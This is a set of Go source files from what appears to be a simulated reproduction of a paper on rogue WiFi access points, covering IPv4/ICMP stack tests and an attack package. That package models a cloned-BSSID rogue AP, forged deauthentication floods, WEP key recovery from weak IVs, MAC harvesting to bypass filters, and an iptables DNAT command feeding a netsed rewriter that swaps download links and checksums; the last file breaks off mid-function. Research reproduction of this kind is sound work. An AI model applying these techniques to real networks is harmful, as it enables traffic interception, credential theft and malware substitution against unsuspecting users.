func lan(t *testing.T, k *sim.Kernel, n int) []lanHost {
	t.Helper()
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	hosts := make([]lanHost, n)
	prefix := inet.MustParsePrefix("10.0.0.0/24")
	for i := range hosts {
		port := sw.Attach(alloc.Next())
		st := NewStack(k, "h")
		addr := inet.Addr{10, 0, 0, byte(i + 1)}
		st.AddIface("eth0", port, addr, prefix)
		hosts[i] = lanHost{stack: st, port: port}
	}
	return hosts
}

func TestPingOnLAN(t *testing.T) {
	k := sim.NewKernel(1)
	hosts := lan(t, k, 2)
	var reply struct {
		from inet.Addr
		seq  uint16
	}
	hosts[0].stack.SetEchoHandler(func(from inet.Addr, id, seq uint16, data []byte) {
		reply.from, reply.seq = from, seq
	})
	if err := hosts[0].stack.Ping(inet.MustParseAddr("10.0.0.2"), 1, 7, []byte("hello")); err != nil {
		t.Fatal(err)
	}
	k.Run()
	if reply.from != inet.MustParseAddr("10.0.0.2") || reply.seq != 7 {
		t.Fatalf("reply %+v", reply)
	}
}

func TestPingSelf(t *testing.T) {
	k := sim.NewKernel(1)
	hosts := lan(t, k, 1)
	got := false
	hosts[0].stack.SetEchoHandler(func(from inet.Addr, id, seq uint16, data []byte) { got = true })
	if err := hosts[0].stack.Ping(inet.MustParseAddr("10.0.0.1"), 1, 1, nil); err != nil {
		t.Fatal(err)
	}
	k.Run()
	if !got {
		t.Fatal("no reply from self")
	}
}

func TestNoRouteError(t *testing.T) {
	k := sim.NewKernel(1)
	hosts := lan(t, k, 1)
	if err := hosts[0].stack.Send(inet.Addr{}, inet.MustParseAddr("192.168.9.9"), ProtoUDP, nil); err == nil {
		t.Fatal("send off-subnet without route succeeded")
	}
}

// routedPair builds A —lanA— R —lanB— B with R forwarding.
func routedPair(t *testing.T, k *sim.Kernel) (a, r, b *Stack) {
	t.Helper()
	var alloc ethernet.MACAllocator
	swA := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	swB := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})

	a = NewStack(k, "A")
	a.AddIface("eth0", swA.Attach(alloc.Next()), inet.MustParseAddr("10.0.1.2"), inet.MustParsePrefix("10.0.1.0/24"))
	a.AddDefaultRoute(inet.MustParseAddr("10.0.1.1"), "eth0")

	b = NewStack(k, "B")
	b.AddIface("eth0", swB.Attach(alloc.Next()), inet.MustParseAddr("10.0.2.2"), inet.MustParsePrefix("10.0.2.0/24"))
	b.AddDefaultRoute(inet.MustParseAddr("10.0.2.1"), "eth0")

	r = NewStack(k, "R")
	r.Forwarding = true
	r.AddIface("eth0", swA.Attach(alloc.Next()), inet.MustParseAddr("10.0.1.1"), inet.MustParsePrefix("10.0.1.0/24"))
	r.AddIface("eth1", swB.Attach(alloc.Next()), inet.MustParseAddr("10.0.2.1"), inet.MustParsePrefix("10.0.2.0/24"))
	return a, r, b
}

func TestForwardingAcrossRouter(t *testing.T) {
	k := sim.NewKernel(1)
	a, r, _ := routedPair(t, k)
	replied := false
	a.SetEchoHandler(func(from inet.Addr, id, seq uint16, data []byte) {
		if from == inet.MustParseAddr("10.0.2.2") {
			replied = true
		}
	})
	if err := a.Ping(inet.MustParseAddr("10.0.2.2"), 1, 1, []byte("x")); err != nil {
		t.Fatal(err)
	}
	k.Run()
	if !replied {
		t.Fatal("no echo reply across router")
	}
	if r.Forwarded < 2 {
		t.Fatalf("router forwarded %d packets, want >=2", r.Forwarded)
	}
}

func TestForwardingDisabledDrops(t *testing.T) {
	k := sim.NewKernel(1)
	a, r, _ := routedPair(t, k)
	r.Forwarding = false
	replied := false
	a.SetEchoHandler(func(inet.Addr, uint16, uint16, []byte) { replied = true })
	_ = a.Ping(inet.MustParseAddr("10.0.2.2"), 1, 1, nil)
	k.Run()
	if replied {
		t.Fatal("router forwarded with Forwarding=false")
	}
	if r.RxDropped == 0 {
		t.Fatal("no drops recorded")
	}
}

func TestTTLExpiry(t *testing.T) {
	k := sim.NewKernel(1)
	a, r, _ := routedPair(t, k)
	_ = r
	// Build a packet with TTL 1: the router must not forward it.
	m := ICMPMessage{Type: ICMPEchoRequest, ID: 1, Seq: 1}
	replied := false
	a.SetEchoHandler(func(inet.Addr, uint16, uint16, []byte) { replied = true })
	// Send manually with TTL 1 by crafting through the raw path.
	pkt := &Packet{ID: 1, TTL: 1, Proto: ProtoICMP,
		Src: inet.MustParseAddr("10.0.1.2"), Dst: inet.MustParseAddr("10.0.2.2"),
		Payload: m.Marshal()}
	if err := a.route(pkt, "", nil); err != nil {
		t.Fatal(err)
	}
	k.Run()
	if replied {
		t.Fatal("TTL-1 packet crossed the router")
	}
	if r.TTLExpired != 1 {
		t.Fatalf("TTLExpired = %d", r.TTLExpired)
	}
}

func TestLongestPrefixWins(t *testing.T) {
	k := sim.NewKernel(1)
	s := NewStack(k, "t")
	s.AddRoute(Route{Prefix: inet.MustParsePrefix("0.0.0.0/0"), Iface: "default"})
	s.AddRoute(Route{Prefix: inet.MustParsePrefix("10.0.0.0/8"), Iface: "eight"})
	s.AddRoute(Route{Prefix: inet.MustParsePrefix("10.1.0.0/16"), Iface: "sixteen"})
	s.AddRoute(Route{Prefix: inet.MustParsePrefix("10.1.2.3/32"), Iface: "host"})
	cases := map[string]string{
		"10.1.2.3":  "host",
		"10.1.9.9":  "sixteen",
		"10.9.9.9":  "eight",
		"192.0.2.1": "default",
	}
	for dst, want := range cases {
		r, ok := s.LookupRoute(inet.MustParseAddr(dst))
		if !ok || r.Iface != want {
			t.Errorf("LookupRoute(%s) = %q, want %q", dst, r.Iface, want)
		}
	}
}

func TestMetricBreaksTies(t *testing.T) {
	k := sim.NewKernel(1)
	s := NewStack(k, "t")
	s.AddRoute(Route{Prefix: inet.MustParsePrefix("10.0.0.0/8"), Iface: "worse", Metric: 10})
	s.AddRoute(Route{Prefix: inet.MustParsePrefix("10.0.0.0/8"), Iface: "better", Metric: 1})
	r, _ := s.LookupRoute(inet.MustParseAddr("10.1.1.1"))
	if r.Iface != "better" {
		t.Fatalf("picked %q", r.Iface)
	}
}

// dropHook drops everything at one point.
type dropHook struct {
	point HookPoint
	hits  int
}

func (h *dropHook) Filter(point HookPoint, pkt *Packet, in, out string) Verdict {
	if point == h.point {
		h.hits++
		return VerdictDrop
	}
	return VerdictAccept
}

func TestHooksDropAtEachPoint(t *testing.T) {
	for _, point := range []HookPoint{HookPrerouting, HookInput} {
		k := sim.NewKernel(1)
		hosts := lan(t, k, 2)
		h := &dropHook{point: point}
		hosts[1].stack.AddHook(h)
		replied := false
		hosts[0].stack.SetEchoHandler(func(inet.Addr, uint16, uint16, []byte) { replied = true })
		_ = hosts[0].stack.Ping(inet.MustParseAddr("10.0.0.2"), 1, 1, nil)
		k.Run()
		if replied {
			t.Errorf("%v: ping survived drop hook", point)
		}
		if h.hits == 0 {
			t.Errorf("%v: hook never hit", point)
		}
	}
}

func TestOutputHookDrops(t *testing.T) {
	k := sim.NewKernel(1)
	hosts := lan(t, k, 2)
	h := &dropHook{point: HookOutput}
	hosts[0].stack.AddHook(h)
	if err := hosts[0].stack.Ping(inet.MustParseAddr("10.0.0.2"), 1, 1, nil); err == nil {
		t.Fatal("OUTPUT-dropped send reported success")
	}
}

func TestForwardHookSeesTransit(t *testing.T) {
	k := sim.NewKernel(1)
	a, r, _ := routedPair(t, k)
	h := &dropHook{point: HookForward}
	r.AddHook(h)
	replied := false
	a.SetEchoHandler(func(inet.Addr, uint16, uint16, []byte) { replied = true })
	_ = a.Ping(inet.MustParseAddr("10.0.2.2"), 1, 1, nil)
	k.Run()
	if replied || h.hits == 0 {
		t.Fatalf("forward hook: replied=%v hits=%d", replied, h.hits)
	}
}

// rewriteHook performs a DNAT-style dst rewrite at PREROUTING.
type rewriteHook struct{ from, to inet.Addr }

func (h *rewriteHook) Filter(point HookPoint, pkt *Packet, in, out string) Verdict {
	if point == HookPrerouting && pkt.Dst == h.from {
		pkt.Dst = h.to
	}
	return VerdictAccept
}

func TestPreroutingRewriteRedirects(t *testing.T) {
	k := sim.NewKernel(1)
	a, r, b := routedPair(t, k)
	_ = b
	// Router rewrites pings for 10.0.2.99 to B's real address.
	r.AddHook(&rewriteHook{from: inet.MustParseAddr("10.0.2.99"), to: inet.MustParseAddr("10.0.2.2")})
	replied := false
	a.SetEchoHandler(func(from inet.Addr, id, seq uint16, data []byte) { replied = true })
	_ = a.Ping(inet.MustParseAddr("10.0.2.99"), 1, 1, nil)
	k.Run()
	if !replied {
		t.Fatal("rewritten destination did not reply")
	}
}

func TestBroadcastPing(t *testing.T) {
	k := sim.NewKernel(1)
	hosts := lan(t, k, 3)
	replies := map[inet.Addr]bool{}
	hosts[0].stack.SetEchoHandler(func(from inet.Addr, id, seq uint16, data []byte) {
		replies[from] = true
	})
	_ = hosts[0].stack.Ping(inet.MustParseAddr("10.0.0.255"), 1, 1, nil)
	k.Run()
	if len(replies) != 2 {
		t.Fatalf("broadcast ping got %d replies, want 2 (%v)", len(replies), replies)
	}
}

func TestSrcAddrFor(t *testing.T) {
	k := sim.NewKernel(1)
	hosts := lan(t, k, 1)
	src, err := hosts[0].stack.SrcAddrFor(inet.MustParseAddr("10.0.0.200"))
	if err != nil || src != inet.MustParseAddr("10.0.0.1") {
		t.Fatalf("src=%v err=%v", src, err)
	}
}

func TestIsLocal(t *testing.T) {
	k := sim.NewKernel(1)
	hosts := lan(t, k, 1)
	s := hosts[0].stack
	if !s.IsLocal(inet.MustParseAddr("10.0.0.1")) {
		t.Error("own address not local")
	}
	if !s.IsLocal(inet.MustParseAddr("10.0.0.255")) {
		t.Error("subnet broadcast not local")
	}
	if !s.IsLocal(inet.Broadcast) {
		t.Error("limited broadcast not local")
	}
	if s.IsLocal(inet.MustParseAddr("10.0.0.2")) {
		t.Error("foreign address local")
	}
}

func TestHookPointString(t *testing.T) {
	names := map[HookPoint]string{
		HookPrerouting: "PREROUTING", HookInput: "INPUT", HookForward: "FORWARD",
		HookOutput: "OUTPUT", HookPostrouting: "POSTROUTING",
	}
	for h, want := range names {
		if h.String() != want {
			t.Errorf("%d = %q", h, h.String())
		}
	}
}

// Wire parsers must never panic on arbitrary bytes.
func TestQuickParsersNoPanic(t *testing.T) {
	f := func(b []byte) bool {
		_, _ = Unmarshal(b)
		_, _ = UnmarshalICMP(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
