package ipv4

import (
	"encoding/binary"

	"repro/internal/inet"
)

// ICMP types used by the simulation.
const (
	ICMPEchoReply    uint8 = 0
	ICMPEchoRequest  uint8 = 8
	ICMPTimeExceeded uint8 = 11
)

// ICMPMessage is a minimal ICMP datagram.
type ICMPMessage struct {
	Type uint8
	Code uint8
	ID   uint16
	Seq  uint16
	Data []byte
}

// Marshal serialises with checksum.
func (m *ICMPMessage) Marshal() []byte {
	b := make([]byte, 8+len(m.Data))
	b[0] = m.Type
	b[1] = m.Code
	binary.BigEndian.PutUint16(b[4:6], m.ID)
	binary.BigEndian.PutUint16(b[6:8], m.Seq)
	copy(b[8:], m.Data)
	binary.BigEndian.PutUint16(b[2:4], inet.Checksum(b))
	return b
}

// UnmarshalICMP parses an ICMP payload, verifying the checksum.
func UnmarshalICMP(b []byte) (ICMPMessage, bool) {
	if len(b) < 8 || inet.Checksum(b) != 0 {
		return ICMPMessage{}, false
	}
	return ICMPMessage{
		Type: b[0], Code: b[1],
		ID:   binary.BigEndian.Uint16(b[4:6]),
		Seq:  binary.BigEndian.Uint16(b[6:8]),
		Data: b[8:],
	}, true
}

// EchoCallback receives ping replies.
type EchoCallback func(from inet.Addr, id, seq uint16, data []byte)

// handleICMP is the stack's built-in ICMP responder.
func (s *Stack) handleICMP(pkt *Packet, in string) {
	m, ok := UnmarshalICMP(pkt.Payload)
	if !ok {
		s.RxDropped++
		return
	}
	switch m.Type {
	case ICMPEchoRequest:
		reply := ICMPMessage{Type: ICMPEchoReply, ID: m.ID, Seq: m.Seq, Data: m.Data}
		// Reply from the address that was pinged — unless that was a
		// broadcast address, in which case use our unicast address on
		// the route back.
		src := pkt.Dst
		ownUnicast := false
		for _, ifc := range s.ifaces {
			if ifc.Addr == src {
				ownUnicast = true
				break
			}
		}
		if !ownUnicast {
			var err error
			src, err = s.SrcAddrFor(pkt.Src)
			if err != nil {
				return
			}
		}
		_ = s.Send(src, pkt.Src, ProtoICMP, reply.Marshal())
	case ICMPEchoReply:
		if s.onEchoReply != nil {
			s.onEchoReply(pkt.Src, m.ID, m.Seq, m.Data)
		}
	}
}

// Ping sends an echo request; replies arrive at the callback registered via
// SetEchoHandler.
func (s *Stack) Ping(dst inet.Addr, id, seq uint16, data []byte) error {
	m := ICMPMessage{Type: ICMPEchoRequest, ID: id, Seq: seq, Data: data}
	return s.Send(inet.Addr{}, dst, ProtoICMP, m.Marshal())
}

// SetEchoHandler registers the callback for echo replies.
func (s *Stack) SetEchoHandler(cb EchoCallback) { s.onEchoReply = cb }

// sendICMPTimeExceeded reports a TTL expiry back to the source.
func (s *Stack) sendICMPTimeExceeded(orig *Packet, in *Iface) {
	// Quote the original header + 8 bytes, per RFC 792.
	quote := orig.Marshal()
	if len(quote) > HeaderLen+8 {
		quote = quote[:HeaderLen+8]
	}
	m := ICMPMessage{Type: ICMPTimeExceeded, Data: quote}
	_ = s.Send(in.Addr, orig.Src, ProtoICMP, m.Marshal())
}
