package attack

import (
	"bytes"
	"testing"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

var (
	corpBSSID = ethernet.MustParseMAC("02:aa:bb:cc:dd:01")
	victimMAC = ethernet.MustParseMAC("02:00:00:00:03:01")
	staMAC    = ethernet.MustParseMAC("02:00:00:00:66:01")
)

// corpNet builds a real AP + victim; returns kernel, medium, AP, victim STA.
func corpNet(t *testing.T, key wep.Key) (*sim.Kernel, *phy.Medium, *dot11.AP, *dot11.STA) {
	t.Helper()
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	ap := dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "corp", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		dot11.APConfig{SSID: "CORP", BSSID: corpBSSID, Channel: 1, WEPKey: key})
	victim := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "victim", Pos: phy.Position{X: 40, Y: 0}, Channel: 1}),
		dot11.STAConfig{MAC: victimMAC, SSID: "CORP", WEPKey: key})
	return k, m, ap, victim
}

func TestRogueKitCapturesVictim(t *testing.T) {
	key := wep.Key40FromString("SECRET")
	k, m, _, victim := corpNet(t, key)
	kit, err := NewRogueKit(k, m, phy.Position{X: 42, Y: 0}, RogueKitConfig{
		SSID: "CORP", CloneBSSID: corpBSSID, Channel: 6, WEPKey: key,
		StationMAC:  staMAC,
		WlanIP:      inet.MustParseAddr("10.0.0.201"),
		EthIP:       inet.MustParseAddr("10.0.0.200"),
		Prefix:      inet.MustParsePrefix("10.0.0.0/24"),
		TargetIP:    inet.MustParseAddr("198.18.0.80"),
		NetsedRules: []string{"s/aaaa/bbbb"},
	})
	if err != nil {
		t.Fatal(err)
	}
	victim.Connect()
	k.RunUntil(10 * sim.Second)
	if !kit.UplinkUp {
		t.Fatal("rogue uplink never associated")
	}
	if kit.VictimsAssociated == 0 {
		t.Fatal("victim did not associate to the rogue")
	}
	if victim.BSS().Channel != 6 {
		t.Fatalf("victim on channel %d, want rogue's 6", victim.BSS().Channel)
	}
}

func TestDeautherForcesRoam(t *testing.T) {
	// Victim starts on the real AP; a deauth flood pushes it off, and with
	// the rogue present and closer it lands on the rogue.
	key := wep.Key40FromString("SECRET")
	k, m, _, victim := corpNet(t, key)
	victim.Connect()
	k.RunUntil(5 * sim.Second)
	if victim.State() != dot11.StateAssociated || victim.BSS().Channel != 1 {
		t.Fatalf("victim should start on the real AP (state %v ch %d)", victim.State(), victim.BSS().Channel)
	}

	// Rogue appears.
	_, err := NewRogueKit(k, m, phy.Position{X: 42, Y: 0}, RogueKitConfig{
		SSID: "CORP", CloneBSSID: corpBSSID, Channel: 6, WEPKey: key,
		StationMAC:  staMAC,
		WlanIP:      inet.MustParseAddr("10.0.0.201"),
		EthIP:       inet.MustParseAddr("10.0.0.200"),
		Prefix:      inet.MustParsePrefix("10.0.0.0/24"),
		TargetIP:    inet.MustParseAddr("198.18.0.80"),
		DisableMITM: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	k.RunUntil(k.Now() + 5*sim.Second)
	// Victim is sticky: still on the real AP until forced off.
	if victim.BSS().Channel != 1 {
		t.Skip("victim roamed on its own; deauth forcing untestable here")
	}

	d := NewDeauther(k, m, phy.Position{X: 41, Y: 0}, 1)
	d.Flood(victimMAC, corpBSSID, 100*sim.Millisecond)
	k.RunUntil(k.Now() + 10*sim.Second)
	d.Stop()
	if d.FramesSent == 0 {
		t.Fatal("no deauths sent")
	}
	if victim.State() != dot11.StateAssociated || victim.BSS().Channel != 6 {
		t.Fatalf("victim not forced onto rogue (state %v, ch %d, deauths rx %d)",
			victim.State(), victim.BSS().Channel, victim.DeauthsReceived)
	}
}

func TestWEPSnifferRecoversKey(t *testing.T) {
	// Generate WEP traffic with sequential IVs and let the sniffer crack
	// the key. To keep the test fast we inject frames directly rather
	// than simulating millions of transmissions.
	key := wep.Key40FromString("SECRE")
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	s := NewWEPSniffer(k, m, phy.Position{X: 5, Y: 0}, 1, wep.KeySize40)

	// An AP-like transmitter cycling through the weak-IV region.
	iv := &wep.SequentialIV{}
	inj := dot11.NewInjector(k, m.AddRadio(phy.RadioConfig{Name: "tx", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}), 0)
	payload := dot11.EncapsulateLLC(ethernet.TypeIPv4, []byte("some ip packet data"))

	// Feed the monitor through the air for a sample of frames, then feed
	// the cracker directly for bulk (same data path, no airtime cost).
	for i := 0; i < 50; i++ {
		inj.Inject(dot11.Frame{
			Type: dot11.TypeData, ToDS: true, Protected: true,
			Addr1: corpBSSID, Addr2: victimMAC, Addr3: corpBSSID,
			Body: wep.Seal(key, iv.NextIV(), 0, payload),
		})
	}
	k.Run()
	if s.Cracker.Frames == 0 {
		t.Fatal("sniffer captured nothing over the air")
	}
	// Bulk: one full pass of weak IVs.
	for b := 0; b < wep.KeySize40; b++ {
		for x := 0; x < 256; x++ {
			ivw := wep.IV{byte(b + 3), 255, byte(x)}
			s.Cracker.AddSealed(wep.Seal(key, ivw, 0, payload))
		}
	}
	got, err := s.TryRecoverKey()
	if err != nil {
		t.Fatalf("RecoverKey: %v (weak=%d)", err, s.Cracker.WeakFrames)
	}
	if !bytes.Equal(got, key) {
		t.Fatalf("recovered %x, want %x", got, key)
	}
}

func TestMACHarvester(t *testing.T) {
	k, m, ap, victim := corpNet(t, nil)
	h := NewMACHarvester(k, m, phy.Position{X: 20, Y: 0}, 1)
	victim.Connect()
	k.RunUntil(5 * sim.Second)
	// Give the harvester some data traffic to see.
	ap.HostNIC().SetReceiver(func(f ethernet.Frame) {})
	for i := 0; i < 5; i++ {
		victim.NIC().Send(corpBSSID, ethernet.TypeIPv4, []byte("x"))
	}
	k.RunUntil(k.Now() + sim.Second)
	macs := h.ClientMACs()
	found := false
	for _, mac := range macs {
		if mac == victimMAC {
			found = true
		}
		if mac == corpBSSID {
			t.Fatal("harvested the BSSID as a client")
		}
	}
	if !found {
		t.Fatalf("victim MAC not harvested (got %v)", macs)
	}
	if busiest, ok := h.Busiest(); !ok || busiest != victimMAC {
		t.Fatalf("busiest = %v, %v", busiest, ok)
	}
}

func TestHarvestedMACDefeatsFilter(t *testing.T) {
	// End-to-end §2.1: MAC ACL on, attacker harvests the victim's MAC and
	// associates with it once the victim goes quiet.
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "corp", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		dot11.APConfig{SSID: "CORP", BSSID: corpBSSID, Channel: 1,
			MACAllow: []ethernet.MAC{victimMAC}})
	victim := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "victim", Pos: phy.Position{X: 10, Y: 0}, Channel: 1}),
		dot11.STAConfig{MAC: victimMAC, SSID: "CORP"})
	h := NewMACHarvester(k, m, phy.Position{X: 15, Y: 0}, 1)
	victim.Connect()
	k.RunUntil(5 * sim.Second)

	// Attacker with its own MAC: rejected.
	evil := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "evil", Pos: phy.Position{X: 12, Y: 0}, Channel: 1}),
		dot11.STAConfig{MAC: staMAC, SSID: "CORP", DisableReconnect: true})
	evil.Connect()
	k.RunUntil(k.Now() + 5*sim.Second)
	if evil.State() == dot11.StateAssociated {
		t.Fatal("unlisted MAC associated through the ACL")
	}

	// Victim leaves; attacker clones the harvested MAC.
	victim.Stop()
	harvested, ok := h.Busiest()
	if !ok {
		// Probe requests alone may not register; fall back to known MAC.
		harvested = victimMAC
	}
	clone := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "clone", Pos: phy.Position{X: 12, Y: 0}, Channel: 1}),
		dot11.STAConfig{MAC: harvested, SSID: "CORP"})
	clone.Connect()
	k.RunUntil(k.Now() + 5*sim.Second)
	if clone.State() != dot11.StateAssociated {
		t.Fatal("cloned MAC failed to associate — ACL should not stop it")
	}
}
