// Package attack assembles the paper's proof-of-concept attacker from the
// substrate packages, mirroring Section 4's recipe piece by piece:
//
//   - RogueKit: the two-card laptop. One WiFi interface associates to the
//     real network as an ordinary client ("eth1", the paper's Netgear
//     MA101); the second runs in Master mode as an access point with the
//     same SSID and WEP key ("wlan0", the D-Link DWL-650 under hostap).
//     parprouted bridges them (Appendix A), Netfilter DNATs the victim's
//     port-80 traffic into a local netsed, and netsed swaps the download
//     link and MD5 sum (Figure 2).
//   - Deauther: the targeted forced-disassociation step ("he could force
//     the client's disassociation from the legitimate AP until the client
//     associates with the Rogue AP").
//   - WEPSniffer: the Airsnort stand-in that recovers the WEP key from
//     passively captured weak-IV traffic.
//   - MACHarvester: sniffs valid client MACs to defeat MAC filtering.
package attack

import (
	"repro/internal/arp"
	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/netfilter"
	"repro/internal/netsed"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/tcp"
	"repro/internal/wep"
)

// RogueKitConfig configures the attacker's laptop.
type RogueKitConfig struct {
	// SSID to impersonate (the paper's "CORP").
	SSID string
	// CloneBSSID is the rogue AP's BSSID — Figure 1 clones the real AP's
	// (AA:BB:CC:DD...).
	CloneBSSID ethernet.MAC
	// Channel for the rogue AP (Figure 1: real AP on 1, rogue on 6).
	Channel phy.Channel
	// WEPKey: the network's key, known to the attacker ("created by a
	// valid user, using the authentication information he was given" or
	// "retrieved ... via Airsnort").
	WEPKey wep.Key
	// StationMAC is the client-side interface's MAC — possibly a harvested
	// valid MAC if the network filters.
	StationMAC ethernet.MAC
	// RogueTxPowerDBm lets the rogue out-shout the real AP (default 15).
	RogueTxPowerDBm float64
	// WlanIP / EthIP and Prefix follow Appendix A's addressing (two
	// interfaces in the flat LAN subnet).
	WlanIP, EthIP inet.Addr
	Prefix        inet.Prefix
	// DefaultGW is Appendix A's "route add default gw 10.0.0.1": the real
	// network's router, reached through the client-side interface.
	DefaultGW inet.Addr
	// TargetIP/TargetPort select the website whose responses are rewritten
	// (the paper's "Target-IP", port 80).
	TargetIP   inet.Addr
	TargetPort inet.Port
	// NetsedRules are the substitutions, in netsed's s/from/to syntax.
	NetsedRules []string
	// StreamingNetsed selects the boundary-safe rewriter (§4.2's
	// anticipated improvement) instead of faithful per-segment matching.
	StreamingNetsed bool
	// PoisonUpstream sends gratuitous ARP on the client side for victim
	// addresses learned behind the rogue AP, so the real network re-learns
	// them immediately instead of waiting for cache expiry.
	PoisonUpstream bool
	// DisableMITM builds the bridge only (a pure relay rogue — useful as a
	// baseline and for detection experiments).
	DisableMITM bool
}

// RogueKit is the running attacker.
type RogueKit struct {
	cfg RogueKitConfig

	STA        *dot11.STA
	AP         *dot11.AP
	IP         *ipv4.Stack
	TCP        *tcp.Stack
	FW         *netfilter.Table
	Netsed     *netsed.Proxy
	Parprouted *arp.Parprouted

	// VictimsAssociated counts stations that joined the rogue AP.
	VictimsAssociated uint64
	// UplinkUp reports whether the client side associated to the real
	// network.
	UplinkUp bool
}

// NewRogueKit builds and starts the attack. The two radios are placed at
// pos; the station side starts scanning immediately.
func NewRogueKit(k *sim.Kernel, medium *phy.Medium, pos phy.Position, cfg RogueKitConfig) (*RogueKit, error) {
	if cfg.RogueTxPowerDBm == 0 {
		cfg.RogueTxPowerDBm = 15
	}
	if cfg.TargetPort == 0 {
		cfg.TargetPort = 80
	}
	kit := &RogueKit{cfg: cfg}

	// Client-side card, associating to the real network like any station.
	staRadio := medium.AddRadio(phy.RadioConfig{Name: "rogue-eth1", Pos: pos, Channel: 1})
	kit.STA = dot11.NewSTA(k, staRadio, dot11.STAConfig{
		MAC:    cfg.StationMAC,
		SSID:   cfg.SSID,
		WEPKey: cfg.WEPKey,
		// Never join our own rogue AP (same SSID, cloned BSSID): exclude
		// its channel from candidate selection.
		ExcludeBSS: func(b dot11.BSS) bool { return b.Channel == cfg.Channel },
	})
	kit.STA.OnAssociate = func(b dot11.BSS) { kit.UplinkUp = true }

	// AP-side card in Master mode: same SSID, same (cloned) BSSID, same
	// WEP key, different channel.
	apRadio := medium.AddRadio(phy.RadioConfig{
		Name: "rogue-wlan0", Pos: pos, Channel: cfg.Channel, TxPowerDBm: cfg.RogueTxPowerDBm,
	})
	kit.AP = dot11.NewAP(k, apRadio, dot11.APConfig{
		SSID:    cfg.SSID,
		BSSID:   cfg.CloneBSSID,
		Channel: cfg.Channel,
		WEPKey:  cfg.WEPKey,
	})
	kit.AP.OnAssociate = func(sta ethernet.MAC) { kit.VictimsAssociated++ }

	// The gateway host (Appendix A): IP forwarding on, both interfaces
	// addressed, parprouted bridging them.
	kit.IP = ipv4.NewStack(k, "rogue-gw")
	kit.IP.Forwarding = true // echo 1 > /proc/sys/net/ipv4/ip_forward
	wlan0 := kit.IP.AddIface("wlan0", kit.AP.HostNIC(), cfg.WlanIP, cfg.Prefix)
	eth1 := kit.IP.AddIface("eth1", kit.STA.NIC(), cfg.EthIP, cfg.Prefix)
	kit.TCP = tcp.NewStack(kit.IP)
	if !cfg.DefaultGW.IsUnspecified() {
		kit.IP.AddDefaultRoute(cfg.DefaultGW, "eth1")
	}

	kit.Parprouted = arp.NewParprouted(k, kit.IP, map[string]*arp.Client{
		"wlan0": wlan0.ARP,
		"eth1":  eth1.ARP,
	})

	if cfg.PoisonUpstream {
		// Chain onto wlan0's observer (after parprouted's): when a victim
		// address appears behind the rogue, immediately claim it upstream.
		prev := wlan0.ARP.Observer
		wlan0.ARP.Observer = func(p arp.Packet) {
			if prev != nil {
				prev(p)
			}
			if p.SenderIP.IsUnspecified() || p.SenderIP == cfg.WlanIP || p.SenderIP == cfg.EthIP {
				return
			}
			claim := arp.Packet{
				Op:       arp.OpRequest, // gratuitous ARP
				SenderHW: kit.STA.NIC().HWAddr(), SenderIP: p.SenderIP,
				TargetIP: p.SenderIP,
			}
			kit.STA.NIC().Send(ethernet.BroadcastMAC, ethernet.TypeARP, claim.Marshal())
		}
	}

	if !cfg.DisableMITM {
		// The paper's Netfilter redirect, verbatim.
		kit.FW = netfilter.New()
		kit.FW.RegisterInvariants(k)
		kit.IP.AddHook(kit.FW)
		cmd := "iptables -t nat -A PREROUTING -p tcp -d " + cfg.TargetIP.String() +
			" --dport " + cfg.TargetPort.String() +
			" -j DNAT --to " + cfg.WlanIP.String() + ":10101"
		if _, err := kit.FW.ParseIptables(cmd); err != nil {
			return nil, err
		}
		// And netsed listening where the DNAT points.
		proxy, err := netsed.Start(kit.TCP, netsed.Config{
			ListenPort: 10101,
			Upstream:   inet.HostPort{Addr: cfg.TargetIP, Port: cfg.TargetPort},
			Rules:      cfg.NetsedRules,
			Streaming:  cfg.StreamingNetsed,
		})
		if err != nil {
			return nil, err
		}
		kit.Netsed = proxy
	}

	kit.STA.Connect()
	return kit, nil
}

// Stop silences the kit (both radios).
func (r *RogueKit) Stop() {
	r.AP.Stop()
	r.STA.Stop()
}
