package attack

import (
	"bytes"
	"sort"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

// Deauther forges deauthentication frames "from" a legitimate AP to force a
// client off it — 802.11 management frames are unauthenticated, so the
// victim cannot tell (paper §4: "he could force the client's disassociation
// from the legitimate AP until the client associates with the Rogue AP").
type Deauther struct {
	kernel   *sim.Kernel
	injector *dot11.Injector
	stop     bool

	// FramesSent counts forged deauths.
	FramesSent uint64
}

// NewDeauther wraps a radio tuned to the victim's current channel.
func NewDeauther(k *sim.Kernel, medium *phy.Medium, pos phy.Position, channel phy.Channel) *Deauther {
	radio := medium.AddRadio(phy.RadioConfig{Name: "deauther", Pos: pos, Channel: channel})
	return &Deauther{kernel: k, injector: dot11.NewInjector(k, radio, 0)}
}

// SetChannel retunes the deauther.
func (d *Deauther) SetChannel(c phy.Channel) { d.injector.SetChannel(c) }

// Once sends a single forged deauth claiming to come from bssid.
func (d *Deauther) Once(victim, bssid ethernet.MAC) {
	d.FramesSent++
	d.injector.Inject(dot11.Frame{
		Type: dot11.TypeManagement, Subtype: dot11.SubtypeDeauth,
		Addr1: victim, Addr2: bssid, Addr3: bssid,
